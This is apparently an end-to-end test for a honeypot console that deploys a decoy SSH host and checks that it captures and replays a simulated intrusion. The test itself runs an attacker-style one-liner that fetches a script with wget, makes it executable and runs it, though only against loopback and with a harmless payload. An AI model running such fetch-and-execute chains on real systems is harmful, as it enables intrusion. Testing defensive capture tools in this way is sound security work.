// Browser journey of #22 items 2 and 3: Debian's Chromium drives the real headless console (its
// embedded local agent runs the decky); a real OpenSSH client, from one source address, runs an
// interactive pty session and an attack one-liner whose wget really fetches from a loopback HTTP
// server (DECNET_FETCH_ALLOW_LOOPBACK, test-only, reaches the decky host through the environment).
// The attacker's timeline lists the payload with its hash, downloads it as a zip that opens with
// the password `infected`, and replays the pty session in asciinema-player with what was typed
// and shown. Only 127.0.0.0/8 traffic.
import { execFile, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { chmod, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventually } from '../helpers/eventually';
import { sshPasswordFlags } from '../helpers/ssh-client';
import { makeTmpDir } from '../helpers/tmp-dir';
import { freePort, loopbackBlock } from '../integration/master/harness';
import { MASTER_CLI, type Proc, buildAll, screenshot, startProc } from './console-flow';

const CHROMIUM = '/usr/bin/chromium';
const PASSWORD = 'e2e-replay-password';
const ip = loopbackBlock();
const [DECKY, ATTACKER] = [ip(31), ip(77)];
const payload = '#!/bin/sh\necho e2e-stage-two\n';
const sha = createHash('sha256').update(payload).digest('hex');

describe.skipIf(!existsSync(CHROMIUM))('captured payloads and session replay in the browser', () => {
  let tmp: Awaited<ReturnType<typeof makeTmpDir>>;
  let master: Proc | undefined;
  let browser: Browser | undefined;
  let server: http.Server | undefined;
  let page: Page;
  let url = '';
  let token = '';
  const rpc = async <T>(command: string, input: unknown): Promise<T> => {
    const r = await fetch(`${url}/api/v1/rpc/${command}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify(input),
    });
    const body = (await r.json()) as { ok: boolean; value: T; error?: { message: string } };
    if (!body.ok) throw new Error(`${command}: ${body.error?.message ?? r.status}`);
    return body.value;
  };
  const ssh = (args: string[], input: string) =>
    new Promise<void>((resolve) => {
      const c = spawn('ssh', [...sshPasswordFlags, '-o', `BindAddress=${ATTACKER}`, ...args], {
        env: { ...process.env, SSH_ASKPASS: join(tmp.dir, 'askpass'), SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' },
        stdio: ['pipe', 'ignore', 'ignore'],
      });
      c.stdin.end(input);
      c.on('exit', () => resolve());
    });

  beforeAll(async () => {
    await buildAll();
    tmp = await makeTmpDir('decnet-e2e-replay-');
    server = http.createServer((req, res) => res.end(req.url === '/x.sh' ? payload : ''));
    await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    const env = Object.fromEntries(
      Object.entries(process.env).filter(([k, v]) => !k.startsWith('VITEST') && !(k === 'NODE_ENV' && v === 'test')),
    );
    const [apiPort, swarmPort, agentPort] = [await freePort(), await freePort(), await freePort()];
    const args = ['serve', '--data', join(tmp.dir, 'data'), '--api-port', String(apiPort)];
    master = startProc(process.execPath, [MASTER_CLI, ...args, '--swarm-port', String(swarmPort)], {
      ...env,
      DECNET_API_HOST: '127.0.0.1',
      DECNET_SWARM_HOST: '127.0.0.1',
      DECNET_HEARTBEAT_INTERVAL_S: '1',
      DECNET_ADMIN_PASSWORD: PASSWORD,
      DECNET_AGENT_PORT: String(agentPort),
      DECNET_FETCH_ALLOW_LOOPBACK: '1',
    });
    url = await eventually(() => /console API: (http:\/\/127\.0\.0\.1:\d+)/.exec(master!.output())?.[1], {
      timeoutMs: 30_000,
      what: 'console API listening',
    });
    const login = await fetch(`${url}/api/v1/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: 'admin', password: PASSWORD }),
    });
    token = ((await login.json()) as { token: string }).token;
    await eventually(
      async () =>
        (await rpc<{ liveness: string }[]>('hosts.list', {})).some((h) => h.liveness === 'online') || undefined,
      { timeoutMs: 60_000, what: 'local agent online' },
    );
    await rpc('deckies.deploy', {
      services: ['ssh'],
      serviceConfig: { ssh: { users: 'root:toor', fetch: true } },
      deckies: [{ name: 'e2e-replay', ip: DECKY }],
    });
    await eventually(
      async () => (await rpc<{ state: string }[]>('deckies.list', {})).some((d) => d.state === 'running') || undefined,
      { timeoutMs: 90_000, what: 'decky running' },
    );
    await writeFile(join(tmp.dir, 'askpass'), "#!/bin/sh\necho 'toor'\n");
    await chmod(join(tmp.dir, 'askpass'), 0o700);
    await ssh([`root@${DECKY}`, `cd /tmp; wget http://127.0.0.1:${port}/x.sh; chmod +x x.sh; ./x.sh`], '');
    await ssh(['-tt', `root@${DECKY}`], 'echo replay-e2e-marker\nuname -n\nexit\n');
    await eventually(
      async () =>
        (await rpc<{ artifacts: { sha256: string }[] }>('artifacts.list', {})).artifacts.some(
          (a) => a.sha256 === sha,
        ) && (await rpc<{ total: number }>('events.list', { src: ATTACKER, kind: 'recording' })).total >= 1,
      { timeoutMs: 30_000, what: 'artifact and recording on the master' },
    );

    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
    });
    const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true });
    await ctx.route(/^(?!http:\/\/127\.0\.0\.1[:/])/, (route) => route.abort());
    ctx.setDefaultTimeout(30_000);
    page = await ctx.newPage();
    await page.goto(url);
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { level: 1, name: 'Hosts' }).waitFor();
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Attackers' }).click();
    await page.getByRole('table', { name: 'Attackers' }).getByRole('button', { name: ATTACKER }).click();
  }, 240_000);

  afterAll(async () => {
    await browser?.close().catch(() => undefined);
    await master?.stop();
    await new Promise((resolve) => server?.close(resolve));
    await tmp?.remove();
  });

  it('lists the fetched payload with its hash and downloads it as a zip with the password infected', async () => {
    const row = page.getByRole('table', { name: 'Artifacts' }).getByRole('row').filter({ hasText: 'shell-script' });
    await expect(row.getByRole('cell').first().getAttribute('title')).resolves.toBe(sha);
    await expect(row.textContent()).resolves.toContain('/tmp/x.sh');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      row.getByRole('button', { name: 'Download zip' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`${sha}.zip`);
    const { stdout } = await promisify(execFile)('unzip', ['-P', 'infected', '-p', await download.path(), sha]);
    expect(stdout).toBe(payload);
  });

  it('replays the pty session in asciinema-player with what was typed and shown', async () => {
    const session = page.getByRole('article').filter({ has: page.getByRole('button', { name: 'Replay session' }) });
    await session.getByRole('button', { name: 'Replay session' }).click();
    const player = page.getByTestId('cast-player');
    await expect
      .poll(() => player.textContent(), { timeout: 20_000 })
      .toMatch(/echo replay-e2e-marker[\s\S]*replay-e2e-marker[\s\S]*uname -n/);
    await expect(player.locator('.ap-player').count()).resolves.toBe(1);
    await screenshot(page, 'session-replay');
  });
});
